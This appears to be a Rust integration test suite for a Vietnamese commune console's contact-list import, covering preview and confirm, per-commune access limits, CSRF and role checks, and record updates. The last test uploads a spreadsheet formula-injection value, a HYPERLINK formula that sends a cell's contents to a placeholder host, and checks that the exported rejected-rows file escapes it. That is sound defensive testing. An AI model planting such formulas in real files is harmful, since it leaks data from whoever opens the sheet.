//! The console's import of a commune's list: upload, preview, confirm — and what an account
//! limited to one commune cannot do with it.

mod common;

use common::console::{Browser, Console, spawn_console};
use loa::console::Role;
use reqwest::StatusCode;
use sqlx::Row;

const BOUNDARY: &str = "loa-test-boundary-7f3a";

/// Posts the upload form as a browser does (multipart), with `csrf` as its token.
async fn upload(
    c: &Console,
    browser: &Browser,
    csrf: &str,
    name: &str,
    bytes: &[u8],
) -> (StatusCode, String) {
    let mut body = Vec::new();
    for (field, value) in [("_csrf", csrf), ("sheet", "")] {
        body.extend(format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n"
        ).bytes());
    }
    body.extend(format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
    ).bytes());
    body.extend_from_slice(bytes);
    body.extend(format!("\r\n--{BOUNDARY}--\r\n").bytes());
    let r = c
        .http
        .post(c.url("/import"))
        .header("cookie", &browser.cookie)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(body)
        .send()
        .await
        .unwrap();
    (r.status(), r.text().await.unwrap())
}

fn workbook() -> Vec<u8> {
    std::fs::read(common::repo_root().join("tests/fixtures/import/xa-doan-bai.xlsx")).unwrap()
}

async fn persons_in(c: &Console, area: &str) -> Vec<String> {
    sqlx::query("SELECT name FROM persons WHERE area_code = $1 ORDER BY name")
        .bind(area)
        .fetch_all(&c.app.db.pool)
        .await
        .unwrap()
        .iter()
        .map(|r| r.try_get(0).unwrap())
        .collect()
}

/// A commune's clerk uploads the list, sees what would happen, confirms once.
#[tokio::test]
async fn a_communes_clerk_previews_then_imports_their_list_once() {
    let c = spawn_console().await;
    let clerk = c
        .sign_in("thu-ky-doan-bai", Role::Staff, Some("doan-bai"))
        .await;
    let before = persons_in(&c, "doan-bai").await;
    let (status, page) = upload(
        &c,
        &clerk,
        &clerk.csrf,
        "Danh sách xã Đoan Bái.xlsx",
        &workbook(),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    for expected in [
        "Chưa có gì được lưu",
        "Sẽ thêm mới <strong>3</strong> người",
        "<strong>4</strong> dòng không nhập được",
        "Xã Bắc Lý không thuộc địa bàn tài khoản này quản lý",
        "Thị trấn Thắng không thuộc địa bàn tài khoản này quản lý",
        "Số điện thoại &quot;02043871234&quot; là số máy bàn; tin nhắn SMS cần số di động",
        // The first rows as they will be stored, numbers masked.
        "<td>Nguyễn Thị Lan</td><td>+849******78</td><td>Xã Đoan Bái</td><td>phu-nu</td><td class=\"num\">1998</td>",
        "Xác nhận nhập 3 người",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    assert_eq!(
        persons_in(&c, "doan-bai").await,
        before,
        "a preview writes nothing"
    );

    let token = common::console::hidden_field(&page, "token");
    let (status, done) = c
        .form(&clerk, "/import/confirm", &[("token", &token)])
        .await;
    assert_eq!(status, StatusCode::OK, "{done}");
    assert!(
        done.contains("thêm mới 3 người, cập nhật 0 người, 4 dòng không nhập được"),
        "{done}"
    );
    let after = persons_in(&c, "doan-bai").await;
    for name in ["Lê Thị Hoa", "Nguyễn Thị Lan", "Trần Văn Hùng"] {
        assert!(after.iter().any(|n| n == name), "{name}: {after:?}");
    }
    assert!(
        persons_in(&c, "bac-ly")
            .await
            .iter()
            .all(|n| n != "Phạm Văn Đức")
    );
    let audited: i64 = sqlx::query(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'contacts.import' AND actor = 'user:thu-ky-doan-bai'
           AND detail LIKE '%3 added, 0 updated, 4 rejected'",
    )
    .fetch_one(&c.app.db.pool)
    .await
    .unwrap()
    .try_get(0)
    .unwrap();
    assert_eq!(audited, 1);

    // A second click imports nothing twice.
    let (status, _) = c
        .form(&clerk, "/import/confirm", &[("token", &token)])
        .await;
    assert_eq!(status, StatusCode::CONFLICT);

    // The rejected rows, to fix and import again.
    let r = c
        .http
        .get(c.url(&format!("/import/{token}/rejected.csv")))
        .header("cookie", &clerk.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("filename=\"Danh-sach-xa-Doan-Bai.rejected.csv\"")
    );
    let csv = r.text().await.unwrap();
    assert_eq!(csv.lines().count(), 5, "{csv}");
    assert!(csv.contains("Phạm Văn Đức,1682345679,Xã Bắc Lý"), "{csv}");
}

/// A hostile account limited to one commune: it cannot take over another commune's resident by
/// importing their number, nor confirm or read another account's upload; officials cannot
/// import; an upload without the session's token is refused.
#[tokio::test]
async fn an_area_limited_account_imports_only_into_its_own_commune() {
    let c = spawn_console().await;
    let neighbour = c
        .app
        .subscribe_sms("Ngô Thị Thu", "bac-ly", "+84983111222")
        .await;
    let hostile = c.sign_in("ke-xau", Role::Staff, Some("doan-bai")).await;
    let list =
        "Họ và tên,SĐT,Xã\nNgười Lạ,0983111222,Xã Đoan Bái\nĐinh Thị Nga,0983111223,Đoan Bái\n";
    let (status, page) = upload(&c, &hostile, &hostile.csrf, "ds.csv", list.as_bytes()).await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(
        page.contains("Số điện thoại: số này đã đăng ký ở địa bàn khác; chỉ cán bộ địa bàn đó hoặc quản trị viên được sửa")
            && !page.contains("Bắc Lý") && !page.contains("83111222"),
        "{page}"
    );
    let token = common::console::hidden_field(&page, "token");
    let (status, _) = c
        .form(&hostile, "/import/confirm", &[("token", &token)])
        .await;
    assert_eq!(status, StatusCode::OK);
    let row = sqlx::query("SELECT name, area_code FROM persons WHERE id = $1")
        .bind(neighbour)
        .fetch_one(&c.app.db.pool)
        .await
        .unwrap();
    let (name, area): (String, String) = (row.try_get(0).unwrap(), row.try_get(1).unwrap());
    assert_eq!(
        (name.as_str(), area.as_str()),
        ("Ngô Thị Thu", "bac-ly"),
        "not renamed, not moved"
    );
    assert!(
        persons_in(&c, "doan-bai")
            .await
            .contains(&"Đinh Thị Nga".to_string())
    );

    // Another account's upload is not this one's to confirm or read.
    let other = c
        .sign_in("thu-ky-bac-ly", Role::Staff, Some("bac-ly"))
        .await;
    let theirs_list =
        "Họ và tên,SĐT,Xã\nLê Văn Bình,0983111224,Xã Bắc Lý\nLê Văn Cư,02043871234,Xã Bắc Lý\n";
    let (_, page) = upload(&c, &other, &other.csrf, "ds.csv", theirs_list.as_bytes()).await;
    let theirs = common::console::hidden_field(&page, "token");
    let (status, _) = c
        .form(&hostile, "/import/confirm", &[("token", &theirs)])
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    let rejected = format!("/import/{theirs}/rejected.csv");
    assert_eq!(c.page(&hostile, &rejected).await.0, StatusCode::NOT_FOUND);
    assert_eq!(
        c.page(&other, &rejected).await.0,
        StatusCode::OK,
        "their own"
    );

    // No token, no upload; officials read figures only.
    let (status, _) = upload(&c, &hostile, "", "ds.csv", list.as_bytes()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let official = c.sign_in("lanh-dao", Role::Official, None).await;
    assert_eq!(c.page(&official, "/import").await.0, StatusCode::FORBIDDEN);
    let (status, _) = upload(&c, &official, &official.csrf, "ds.csv", list.as_bytes()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, dashboard) = c.page(&official, "/dashboard").await;
    assert!(!dashboard.contains("href=\"/import\""));
}

#[tokio::test]
async fn a_file_that_is_not_a_list_is_refused_in_vietnamese() {
    let c = spawn_console().await;
    let clerk = c.sign_in("thu-ky", Role::Staff, None).await;
    let (status, page) = upload(&c, &clerk, &clerk.csrf, "anh.csv", b"STT,Dia chi\n1,abc\n").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        page.contains("Không tìm thấy dòng tiêu đề trong 10 dòng đầu"),
        "{page}"
    );
}

/// A commune's own list needs no commune column; a second list with only given names and a
/// corrected gender updates without losing what is known. Tags as content audiences name them.
#[tokio::test]
async fn a_second_list_corrects_without_losing_what_is_known() {
    let c = spawn_console().await;
    let clerk = c.sign_in("thu-ky-xa", Role::Staff, Some("doan-bai")).await;
    let import = async |list: &str| {
        let (status, page) = upload(&c, &clerk, &clerk.csrf, "ds.csv", list.as_bytes()).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        let token = common::console::hidden_field(&page, "token");
        let (status, done) = c
            .form(&clerk, "/import/confirm", &[("token", &token)])
            .await;
        assert_eq!(status, StatusCode::OK, "{done}");
        done
    };
    let done = import("Họ và tên,SĐT,Giới tính,Nhãn,Năm sinh\nNguyễn  Thị\tLan,0912000001,Nam,Hội Phụ nữ; Tổ 3,1999\n").await;
    assert!(done.contains("thêm mới 1 người"), "{done}");
    let done = import("Tên,SĐT,Giới tính\nLan,0912000001,Nữ\n").await;
    assert!(done.contains("cập nhật 1 người"), "{done}");
    let row = sqlx::query(
        "SELECT p.name, p.area_code, p.birth_year, p.name_given FROM persons p
         JOIN contacts c ON c.person_id = p.id WHERE c.address = '+84912000001'",
    )
    .fetch_one(&c.app.db.pool)
    .await
    .unwrap();
    let got: (String, String, Option<i64>, i64) = (
        row.try_get(0).unwrap(),
        row.try_get(1).unwrap(),
        row.try_get(2).unwrap(),
        row.try_get(3).unwrap(),
    );
    assert_eq!(
        got,
        ("Nguyễn Thị Lan".into(), "doan-bai".into(), Some(1999), 1)
    );
    let tags: Vec<String> = sqlx::query(
        "SELECT t.tag FROM person_tags t JOIN contacts c ON c.person_id = t.person_id
         WHERE c.address = '+84912000001' ORDER BY t.tag",
    )
    .fetch_all(&c.app.db.pool)
    .await
    .unwrap()
    .iter()
    .map(|r| r.try_get(0).unwrap())
    .collect();
    assert_eq!(tags, ["hoi-phu-nu", "phu-nu", "to-3"]);
}

/// The rejected rows' file guards what came from the uploaded file, its header too.
#[tokio::test]
async fn the_rejected_rows_file_carries_no_formula() {
    let c = spawn_console().await;
    let clerk = c.sign_in("thu-ky", Role::Staff, None).await;
    let list =
        "Họ và tên,SĐT,Xã,=HYPERLINK(\"http://x.example/?\"&A2)\n=1+1,02043871234,Đoan Bái,x\n";
    let (_, page) = upload(&c, &clerk, &clerk.csrf, "ds.csv", list.as_bytes()).await;
    let href = page.split("href=\"/import/").nth(1).unwrap();
    let token = &href[..href.find('/').unwrap()];
    let (status, csv) = c
        .page(&clerk, &format!("/import/{token}/rejected.csv"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains("\n'=1+1,"), "{csv}");
}
